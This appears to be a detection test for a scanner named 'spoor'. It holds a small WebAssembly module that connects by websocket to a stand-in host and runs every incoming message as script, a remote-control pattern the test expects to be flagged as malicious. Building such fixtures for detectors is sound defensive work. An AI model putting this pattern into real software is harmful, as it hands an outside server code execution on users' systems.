;; RUN: spoor trace % --json
;; WHAT: A handler of messages of a socket runs each of them as a script.
;; EXPECT: verdict=MALICIOUS|SUSPICIOUS|POTENTIALLY_UNWANTED rule=communication/c2 status=exited
(module
  (import "env" "emscripten_websocket_new" (func $new (param i32) (result i32)))
  (import "env" "emscripten_websocket_set_onmessage_callback_on_thread"
    (func $listen (param i32 i32 i32 i32) (result i32)))
  (import "env" "emscripten_run_script" (func $run (param i32)))
  (memory (export "memory") 1)
  (table (export "__indirect_function_table") 4 funcref)
  (elem (i32.const 2) $told)
  (func (export "main") (param i32 i32) (result i32)
    (i32.store (i32.const 512) (i32.const 1024))
    (i32.store (i32.const 520) (i32.const 1))
    (call $listen (call $new (i32.const 512)) (i32.const 0) (i32.const 2) (i32.const 2)))
  (func $told (param $kind i32) (param $event i32) (param $own i32) (result i32)
    (if (i32.gt_u (i32.load offset=8 (local.get $event)) (i32.const 1))
      (then (call $run (i32.load offset=4 (local.get $event)))))
    (i32.const 1))
  (data (i32.const 1024) "wss://push.example.invalid/in\00"))
